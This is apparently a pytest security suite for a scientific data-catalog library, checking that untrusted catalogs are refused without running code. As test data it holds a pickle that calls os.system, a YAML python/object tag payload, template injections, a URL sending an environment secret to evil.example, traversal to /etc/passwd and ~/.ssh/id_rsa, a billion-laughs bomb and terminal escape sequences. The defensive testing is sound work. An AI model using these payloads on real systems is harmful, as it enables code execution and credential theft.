"""Strangers' catalogs: refused by name, nothing runs, and what is legitimate beside them opens."""

from __future__ import annotations

import base64
import os
import pickle
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

import emcube as em
from emcube.catalog import add, create, open_catalog
from emcube.cli import main
from emcube.errors import CatalogError, StoreError

Document = dict[str, Any]


class Bomb:
    """Writes a file when it is unpickled."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, ("touch ran-pickle",))


PICKLE = base64.b64encode(pickle.dumps(Bomb())).decode()


@pytest.fixture
def lab(
    tmp_path: Path, make_store: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Path]:
    """A catalog with two entries, beside code that leaves a trace when it is imported or called."""
    folder = tmp_path / "lab"
    folder.mkdir()
    (folder / "evil.py").write_text(
        "from pathlib import Path\n"
        f"trace = Path({str(tmp_path)!r}) / 'ran-evil'\n"
        "trace.touch()\n"
        "class Reader:\n    def __init__(self, *a, **k): trace.touch()\n"
        "    @classmethod\n    def from_dict(cls, d): trace.touch()\n"
        "def run(*a, **k): trace.touch()\n"
    )
    (folder / "bomb.pkl").write_bytes(pickle.dumps(Bomb()))
    monkeypatch.chdir(folder)
    monkeypatch.syspath_prepend(str(folder))
    monkeypatch.setenv("SECRET", "hunter2")
    add("catalog.yaml", make_store(folder / "good.zarr"))
    add("catalog.yaml", make_store(folder / "bad.zarr"))
    yield folder / "catalog.yaml"
    traces = list(tmp_path.rglob("ran-*"))
    assert traces == [], "code of the catalog ran"
    assert "evil" not in sys.modules


def spoilt(catalog: Path, change: Callable[[Document], object]) -> Path:
    document = yaml.safe_load(catalog.read_text())
    change(document)
    catalog.write_text(yaml.safe_dump(document))
    return catalog


def entry(document: Document) -> Document:
    found: Document = document["entries"]["bad"]
    return found


def arguments(document: Document) -> Document:
    found: Document = entry(document)["kwargs"]
    return found


def data(document: Document) -> Document:
    found: Document = document["data"]["bad-data"]
    return found


def address(url: object) -> Callable[[Document], object]:
    return lambda d: data(d)["kwargs"].update(url=url)


READERS = "intake.readers.readers"

ENTRIES: dict[str, Callable[[Document], object]] = {
    "reader: os.system": lambda d: entry(d).update(reader="os:system"),
    "reader: local script": lambda d: entry(d).update(reader="evil:Reader"),
    "reader: a list": lambda d: entry(d).update(reader=["evil:Reader"]),
    "reader: none": lambda d: entry(d).pop("reader"),
    "reader: PythonModule": lambda d: (
        entry(d).update(reader=f"{READERS}:PythonModule"),
        data(d).update(datatype="intake.readers.datatypes:PythonSourceCode"),
        data(d)["kwargs"].update(url="{CATALOG_DIR}/evil.py"),
    ),
    "reader: pickle": lambda d: (
        entry(d).update(reader=f"{READERS}:SKLearnModelReader"),
        data(d).update(datatype="intake.readers.datatypes:PickleFile"),
        data(d)["kwargs"].update(url="{CATALOG_DIR}/bomb.pkl"),
    ),
    "reader: SQL": lambda d: entry(d).update(reader=f"{READERS}:PandasSQLAlchemy"),
    "reader: shell": lambda d: entry(d).update(reader="subprocess:check_output"),
    "reader: retry": lambda d: entry(d).update(reader=f"{READERS}:Retry"),
    "reader: conversion": lambda d: entry(d).update(reader="intake.readers.convert:Pipeline"),
    "bytes of a pickle": lambda d: (
        entry(d).update(reader=f"{READERS}:FileByteReader", output_instance=None),
        data(d).update(datatype="intake.readers.datatypes:PickleFile"),
    ),
    "output: os.system": lambda d: entry(d).update(output_instance="os:system"),
    "template: function": lambda d: arguments(d).update(preprocess="{func(os:system)}"),
    "template: function as data": lambda d: arguments(d).update(args=["{func(evil:run)}"]),
    "template: import": lambda d: arguments(d).update(args=["{import(evil)}"]),
    "template: pickle": lambda d: arguments(d).update(args=[f"{{pickle64({PICKLE})}}"]),
    "template: in chunks": lambda d: arguments(d).update(chunks="{func(evil:run)}"),
    "template: in nested chunks": lambda d: arguments(d).update(chunks={"x": ["{env(SECRET)}"]}),
    "template: part of a pipeline": lambda d: arguments(d).update(args=["{data(good,1)}"]),
    "arguments: two": lambda d: arguments(d).update(args=["{data(bad-data)}", "x"]),
    "arguments: unknown": lambda d: arguments(d).update(backend_kwargs={"a": 1}),
    "arguments: engine": lambda d: arguments(d).update(engine="evil"),
    "arguments: a text": lambda d: entry(d).update(kwargs="{func(evil:run)}"),
    "parameters of the reader": lambda d: entry(d).update(
        user_parameters={"a": {"cls": "evil:Reader"}}
    ),
    "parameters of the data": lambda d: data(d).update(
        user_parameters={"a": {"default": "{func(evil:run)}"}}
    ),
    "datatype: local script": lambda d: data(d).update(datatype="evil:Reader"),
    "data: not there": lambda d: d["data"].pop("bad-data"),
    "data: a list": lambda d: d["data"].update({"bad-data": [1]}),
    "entry: a list": lambda d: d["entries"].update(bad=["not", "a", "mapping"]),
    "address: function": address("{func(evil:run)}/a.zarr"),
    "address: environment": address("{CATALOG_DIR}/{env(SECRET)}.zarr"),
    "address: environment alone": address("{env(HOME)}"),
    "address: secret sent away": address("https://evil.example/{env(SECRET)}/a.zarr"),
    "address: format": address("{CATALOG_DIR.__class__}/a.zarr"),
    "address: chain": address("simplecache::https://evil.example/a.zarr"),
    "address: archive in a file": address("zip://a.zarr::file:///etc/passwd"),
    "address: ssh": address("ssh://evil.example/a.zarr"),
    "address: github": address("github://user:repo@/a.zarr"),
    "address: reference": address("reference://a.json"),
    "address: absolute": address("/etc/passwd"),
    "address: file": address("file:///etc/passwd"),
    "address: upwards": address("{CATALOG_DIR}/../../../../etc/passwd"),
    "address: upwards from within": address("{CATALOG_DIR}/a/../../../b.zarr"),
    "address: hidden beside": address("{CATALOG_DIR}/../.ssh/id_rsa"),
    "address: password": address("https://user:password@evil.example/a.zarr"),
    "address: signature": address("https://evil.example/a.zarr?X-Amz-Signature=abc"),
    "address: NUL": address("{CATALOG_DIR}/a\0b.zarr"),
    "address: a list": address(["{CATALOG_DIR}/good.zarr"]),
    "address: none": address(""),
    "options: a key": lambda d: data(d)["kwargs"].update(
        storage_options={"key": "AKIA", "secret": "x"}
    ),
    "options: a template": lambda d: data(d)["kwargs"].update(
        storage_options={"key": "{env(SECRET)}"}
    ),
    "options: of a class": lambda d: data(d)["kwargs"].update(
        storage_options={"client_kwargs": {"cls": "{func(evil:run)}"}}
    ),
    "arguments: data beside args": lambda d: arguments(d).update(
        data="{data(bad-data)}", args=["{func(evil:run)}"]
    ),
    "arguments: of an unknown kind": lambda d: data(d)["kwargs"].update(cls="evil:Reader"),
    "class of the entry": lambda d: entry(d).update(cls="evil:Reader"),
    "class of the data": lambda d: data(d).update(cls="evil:Reader"),
    "group: two": lambda d: data(d)["kwargs"].update(root="x", path="{func(evil:run)}"),
    "group: two plain ones": lambda d: data(d)["kwargs"].update(root="x", path="y"),
    "address: no slashes": address("https:/up/secret.zarr"),
    "address: no host": address("https:///up/secret.zarr"),
    "address: no slash": address("https:up/secret.zarr"),
    "address: backslashes": address("https:\\\\up\\secret.zarr"),
    "address: backslashes within": address("https://evil.example\\@up/secret.zarr"),
    "address: odd case": address("hTTps:/up/secret.zarr"),
    "address: odd case, whole": address("HTTPS://evil.example/a.zarr"),
    "address: a space before": address(" https:/up/secret.zarr"),
    "address: a line within": address("https://evil.example/a\n.zarr"),
    "address: file without slashes": address("file:/etc/passwd"),
    "address: file of a host": address("file://evil.example/etc/passwd"),
    "address: key and policy": address("https://evil.example/a.zarr?key=a&policy=b"),
    "address: Azure's signature": address("https://evil.example/a.zarr?se=2026&sp=r&sv=1&access=b"),
    "address: a secret without a name": address("https://evil.example/a.zarr?abcdef"),
    "address: a token behind #": address("https://evil.example/a.zarr#token=abc"),
    "address: user of Google's store": address("gs://me:password@bucket/a.zarr"),
    "group: upwards": lambda d: data(d)["kwargs"].update(root="../../etc"),
    "group: a template": lambda d: data(d)["kwargs"].update(root="{func(evil:run)}"),
}


@pytest.mark.parametrize("change", ENTRIES.values(), ids=ENTRIES)
def test_an_entry_is_refused_and_its_neighbour_opens(
    lab: Path, change: Callable[[Document], object], tmp_path: Path
) -> None:
    found = open_catalog(spoilt(lab, change))
    # Listing and searching look at text only.
    assert sorted(found.search(text="")) == ["bad", "good"]
    assert "is not opened" in found["bad"].to_json()["refused"]
    for use in (found["bad"].open, found["bad"].location, found.to_intake):
        with pytest.raises(CatalogError, match="is not opened: it") as caught:
            use()
        assert "'bad'" in caught.value.message
        assert "hunter2" not in str(caught.value)
    with pytest.raises(CatalogError, match="is not opened"):
        em.open(f"{lab}:bad")
    assert found["good"].open().shape == (4, 5, 6)


def test_a_link_out_of_the_folder_is_refused(
    lab: Path, tmp_path: Path, make_store: Callable[..., Path]
) -> None:
    hidden = make_store(tmp_path / ".private" / "secret.zarr")
    (lab.parent / "link.zarr").symlink_to(hidden)
    found = open_catalog(spoilt(lab, address("{CATALOG_DIR}/link.zarr")))
    with pytest.raises(CatalogError, match="is not opened"):
        found["bad"].open()
    assert found["good"].open().shape == (4, 5, 6)


PARAMETERS: dict[str, object] = {
    "class": {"cls": "evil:Reader", "default": "a"},
    "environment": {
        "cls": "intake.readers.user_parameters:SimpleUserParameter",
        "dtype": "str",
        "default": "{env(SECRET)}",
    },
    "function": {
        "cls": "intake.readers.user_parameters:SimpleUserParameter",
        "dtype": "str",
        "default": "func(evil:run)",
    },
    "upwards": {
        "cls": "intake.readers.user_parameters:SimpleUserParameter",
        "dtype": "str",
        "default": "../../etc",
    },
    "dots": {
        "cls": "intake.readers.user_parameters:OptionsUserParameter",
        "dtype": "str",
        "default": "..",
        "options": [".."],
    },
    "dtype": {
        "cls": "intake.readers.user_parameters:SimpleUserParameter",
        "dtype": "eval",
        "default": "1",
    },
    "a text": "{env(SECRET)}",
}

#: Names that Intake sets itself, or takes an argument of the data for.
NAMES: dict[str, object] = {
    "STORAGE_OPTIONS": {"cls": "evil:run"},
    "CATALOG_PATH": {"cls": "evil:run"},
    "CATALOG_DIR": {"cls": "evil:run", "default": "a"},
    "url": {
        "cls": "intake.readers.user_parameters:SimpleUserParameter",
        "dtype": "str",
        "default": "a",
    },
}


@pytest.mark.parametrize("parameter", PARAMETERS.values(), ids=PARAMETERS)
def test_a_parameter_that_intake_would_run_closes_the_catalog(lab: Path, parameter: object) -> None:
    # Intake evaluates all parameters of a catalog, whichever entry is asked for.
    found = open_catalog(spoilt(lab, lambda d: d.update(user_parameters={"tilt": parameter})))
    for name in ("good", "bad"):
        with pytest.raises(
            CatalogError, match=r"is not opened.*parameter 'tilt'|parameter 'tilt'.*is not"
        ):
            found[name].open()


@pytest.mark.parametrize("name", NAMES)
def test_a_parameter_of_a_name_that_intake_uses_is_checked(lab: Path, name: str) -> None:
    found = open_catalog(spoilt(lab, lambda d: d["user_parameters"].update({name: NAMES[name]})))
    for use in (found["good"].open, found.to_intake):
        with pytest.raises(CatalogError, match=f"parameter '{name}'.*is not opened"):
            use()


def test_intake_gets_what_was_checked_and_nothing_else(
    lab: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def change(document: Document) -> None:
        document.update(cls="evil:Reader", user_parameters={"CATALOG_PATH": "func(evil:run)"})
        document["data"]["more"] = {"cls": "evil:Reader", "datatype": "evil:Reader", "kwargs": {}}
        entry(document)["metadata"] = {"imports": ["evil"], "text": "{func(evil:run)}"}
        # A file of this folder, which Intake would take for a call.
        data(document)["kwargs"]["url"] = "func(evil:run)"

    spoilt(lab, change)
    lab.rename(lab.with_name("func(evil:run).yaml"))
    found = open_catalog("func(evil:run).yaml")
    intake = found.to_intake()
    assert len(intake.data) == 2
    assert set(intake.user_parameters) == {"CATALOG_PATH", "CATALOG_DIR", "STORAGE_OPTIONS"}
    assert intake["good"].read()["data"].shape == (4, 5, 6)
    assert intake["bad"].data.url.endswith("/lab/func(evil:run)")


def test_intake_is_not_handed_catalogs_that_nobody_checked(lab: Path) -> None:
    below = lab.with_name("below.yaml")
    below.write_text("{version: 2, entries: {a: {cls: 'evil:Reader'}}}")
    add(lab, below, name="nested")
    with pytest.raises(CatalogError, match=r"'nested' .* is a catalog.*open_catalog"):
        open_catalog(lab).to_intake()


@pytest.mark.parametrize("scheme", ["https:", "s3:", "HTTPS:"])
def test_an_address_without_slashes_is_no_way_out(
    lab: Path, tmp_path: Path, make_store: Callable[..., Path], scheme: str
) -> None:
    hidden = make_store(tmp_path / "up" / ".private" / "secret.zarr")
    (lab.parent / scheme).mkdir()
    (lab.parent / scheme / "up").symlink_to(hidden.parent)
    for url in (f"{scheme}/up/secret.zarr", f"{{CATALOG_DIR}}/{scheme}/up/secret.zarr"):
        found = open_catalog(spoilt(lab, address(url)))
        with pytest.raises(CatalogError, match="is not opened"):
            found["bad"].open()


@pytest.mark.parametrize(
    "url",
    [
        "https://zenodo.example/records/1/files/a.zarr?download=1",
        "https://h.example/x?format=a&id=2",
    ],
)
def test_queries_that_say_what_is_meant_stay(lab: Path, url: str) -> None:
    assert open_catalog(spoilt(lab, address(url)))["bad"].target.location == url


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
)

FILES: dict[str, bytes] = {
    "object": b"!!python/object/apply:os.system ['touch ran-yaml']",
    "object within": b"version: 2\nmetadata: !!python/object/apply:os.system ['touch ran-yaml']",
    "module": b"version: 2\nmetadata: {a: !!python/module:evil ''}",
    "name": b"version: 2\nmetadata: {a: !!python/name:os.system ''}",
    "own tag": b"version: 2\nmetadata: {a: !evil {b: 1}}",
    "laughs": b"version: 2\nmetadata:\n " + BOMB.replace("\n", "\n ").encode(),
    "itself": b"version: 2\nmetadata: &a {b: *a}",
    "deep": b"version: 2\nmetadata: " + b"[" * 20_000,
    "deep sequence": b"version: 2\nmetadata:\n  " + b"- " * 20_000 + b"x",
    "pickle": pickle.dumps({"version": 2}),
    "merged": b"version: 2\nmetadata: {<<: [1, 2]}",
    "key": b"version: 2\nmetadata: {? {a: 1} : 2}",
    "Intake 1": b"sources: {a: {driver: 'evil.Reader', args: {urlpath: '{{ env(HOME) }}'}}}",
    "cut short": b"version: 2\nentries: {a: {reader: 'intake",
    "zeros": bytes(4096),
}


@pytest.mark.parametrize("content", FILES.values(), ids=FILES)
def test_a_file_that_is_no_plain_catalog_is_refused(lab: Path, content: bytes) -> None:
    path = lab.with_name("other.yaml")
    path.write_bytes(content)
    with pytest.raises(CatalogError, match=r"other\.yaml") as caught:
        open_catalog(path)
    assert caught.value.hint
    with pytest.raises(CatalogError):
        em.open(f"{path}:bad")
    assert main(["catalog", "show", str(path)]) == 2


def test_a_file_without_end_is_refused(lab: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("emcube.catalog.reading._MAX_BYTES", {False: 1000, True: 1000})
    path = lab.with_name("long.yaml")
    path.write_text("version: 2\n# " + "x" * 2000)
    with pytest.raises(CatalogError, match="larger than"):
        open_catalog(path)


def test_refusals_import_nothing(lab: Path) -> None:
    """In a process whose imports and commands are watched, all spoilt entries at once."""
    document = yaml.safe_load(lab.read_text())
    for n, change in enumerate(ENTRIES.values()):
        one = yaml.safe_load(lab.read_text())
        change(one)
        document["entries"][f"bad{n}"] = one["entries"]["bad"]
        if isinstance(one["entries"]["bad"], dict):
            kept = yaml.safe_dump(one["entries"]["bad"].get("kwargs"))
            own = yaml.safe_load(kept.replace("data(bad-data)", f"data(bad{n}-data)"))
            document["entries"][f"bad{n}"]["kwargs"] = own
        if "bad-data" in one["data"]:
            document["data"][f"bad{n}-data"] = one["data"]["bad-data"]
    lab.write_text(yaml.safe_dump(document))
    code = """
import sys
watched = []
def hook(event, args):
    if event in ("os.system", "subprocess.Popen", "socket.connect", "os.exec", "pickle.find_class"):
        watched.append((event, args))
from emcube.catalog import open_catalog
sys.addaudithook(hook)
found = open_catalog(sys.argv[1])
refused = sum("refused" in entry.to_json() for entry in found.values())
print(refused, len(found), watched, "evil" in sys.modules, "intake" in sys.modules)
"""
    done = subprocess.run(
        [sys.executable, "-c", code, str(lab)],
        capture_output=True,
        text=True,
        check=True,
        timeout=200,
    )
    assert done.stdout.split() == [str(len(ENTRIES)), str(len(ENTRIES) + 2), "[]", "False", "False"]


# --- what may be done -----------------------------------------------------------------------------


def test_folders_that_the_user_names_may_be_reached(
    lab: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make_store: Callable[..., Path]
) -> None:
    far = make_store(tmp_path / "far" / "away" / "x.zarr")
    deep = tmp_path / "a" / "b" / "c.yaml"
    with pytest.raises(CatalogError, match=r"cannot add .*EMCUBE_CATALOG_ROOTS"):
        add(deep, far)
    monkeypatch.setenv("EMCUBE_CATALOG_ROOTS", str(tmp_path / "far"))
    assert add(deep, far).open().shape == (4, 5, 6)
    monkeypatch.delenv("EMCUBE_CATALOG_ROOTS")
    with pytest.raises(CatalogError, match="is not opened"):
        open_catalog(deep)["x"].open()


def test_secrets_do_not_get_into_a_catalog(tmp_path: Path) -> None:
    for url in (
        "https://me:pass@host.example/a.zarr",
        "https://host.example/a.bcf?token=abc",
        "s3://key:secret@bucket/a.zarr",
        "https://host.example/a.bcf?key=hunter2&policy=hunter2",
        "https://host.example/a.bcf?se=2026&sp=r&sv=1&access=hunter2",
        "https://host.example/a.bcf#token=hunter2",
        "https://host.example/a.bcf?hunter2",
        "gs://me:hunter2@bucket/a.zarr",
        "https://me:hunter2/4@host.example/a.zarr",
    ):
        with pytest.raises((CatalogError, ValueError)) as caught:
            add(tmp_path / "c.yaml", url, elements=["Si"])
        assert "credentials" in str(caught.value)
        assert "hunter2" not in str(caught.value)
    assert not (tmp_path / "c.yaml").exists()


@pytest.mark.parametrize(
    "metadata",
    [
        {"url": "https://me:hunter2@host.example/a"},
        {"description": "See (https://me:hunter2@host.example/a)."},
        {"description": "https://me:hunter2/4@host.example/a"},
        {"contact": "s3://me:hunter2@bucket"},
        {"note": {"deep": ["https://host.example/a?X-Amz-Signature=hunter2"]}},
        {"note": "https://host.example/a#access_token=hunter2"},
        {"related": [{"relation": "source", "identifier": "https://me:hunter2@host.example/a"}]},
    ],
)
def test_secrets_do_not_get_into_metadata(lab: Path, metadata: Document) -> None:
    before = lab.read_bytes()
    field = next(iter(metadata))
    with pytest.raises(CatalogError, match=f"{field}.* holds an address with a password") as caught:
        add(lab, lab.with_name("good.zarr"), name="new", **metadata)
    assert "hunter2" not in str(caught.value)
    with pytest.raises(CatalogError, match="holds an address"):
        create(lab.with_name("new.yaml"), **metadata)
    assert lab.read_bytes() == before
    assert not lab.with_name("new.yaml").exists()


def test_addresses_without_secrets_stay_in_metadata(lab: Path) -> None:
    text = "ssh://git@host.example/a, https://host.example/a?lang=en&id=3#top, me@host.example"
    new = add(lab, lab.with_name("good.zarr"), name="new", description=text)
    assert new.metadata["description"] == text


def test_a_number_without_end_spoils_no_neighbour(
    lab: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    document = yaml.safe_load(lab.read_text())
    document["entries"]["bad"]["metadata"]["size"] = "NUMBER"
    lab.write_text(yaml.safe_dump(document).replace("NUMBER", "0x" + "f" * 6000))
    for name in ("good", "bad"):
        assert main(["info", f"{lab}:{name}"]) == 0
    assert main(["catalog", "show", str(lab)]) == 0
    assert main(["catalog", "show", str(lab), "bad"]) == 0
    capsys.readouterr()


def test_a_trusted_catalog_runs_what_it_says(lab: Path, tmp_path: Path) -> None:
    (lab.parent / "mine.py").write_text(
        "import numpy as np, xarray as xr\n"
        "class Reader:\n"
        "    def __init__(self, *a, **k): pass\n"
        "    def read(self): return xr.DataArray(np.ones((2, 3), 'u1'), dims=('x', 'energy'))\n"
    )
    spoilt(lab, lambda d: entry(d).update(reader="mine:Reader"))
    with pytest.raises(CatalogError, match="mine:Reader"):
        open_catalog(lab)["bad"].open()
    assert "mine" not in sys.modules
    trusted = open_catalog(lab, trust=True)
    assert trusted["bad"].open().dims == ("x", "energy")
    assert trusted["good"].open().shape == (4, 5, 6)
    assert sys.modules.pop("mine")


def test_terminals_are_not_steered(lab: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spoilt(lab, lambda d: entry(d)["metadata"].update(title="a\x1b[2Jb\x07"))
    assert main(["catalog", "show", str(lab)]) == 0
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    assert "\x07" not in shown


def test_a_link_out_of_a_store_is_refused(lab: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.bin"
    bad = lab.parent / "bad.zarr"
    chunk = next(
        p for p in sorted(bad.rglob("*")) if "c" in p.relative_to(bad).parts and p.is_file()
    )
    chunk.rename(secret)
    chunk.symlink_to(secret)
    catalog = open_catalog(lab)
    with pytest.raises(StoreError, match="leads out of the store"):
        catalog["bad"].open()
    with pytest.raises(StoreError, match="leads out of the store"):
        em.open(f"{lab}:bad")
    assert catalog["good"].open().ndim
    assert open_catalog(lab, trust=True)["bad"].open().ndim


NAME = "a\x1b]0;title\x07\x9b2Jb\x7f"


@pytest.mark.parametrize(
    ("arguments", "status"),
    [
        (["catalog", "show", "CATALOG", "nope"], 2),
        (["catalog", "fetch", "CATALOG", NAME], 2),
        (["info", f"CATALOG:{NAME}"], 2),
        (["--debug", "info", f"CATALOG:{NAME}"], 2),
        (["catalog", "show", "CATALOG", "--json"], 0),
    ],
)
def test_errors_do_not_steer_terminals(
    lab: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], status: int
) -> None:
    def change(document: Document) -> None:
        document["entries"] = {NAME: {**entry(document), "reader": f"os:\x1b[2J{NAME}"}}
        document["aliases"] = {}

    spoilt(lab, change)
    assert main([one.replace("CATALOG", str(lab)) for one in arguments]) == status
    shown = capsys.readouterr()
    assert shown.out + shown.err
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", shown.out + shown.err)
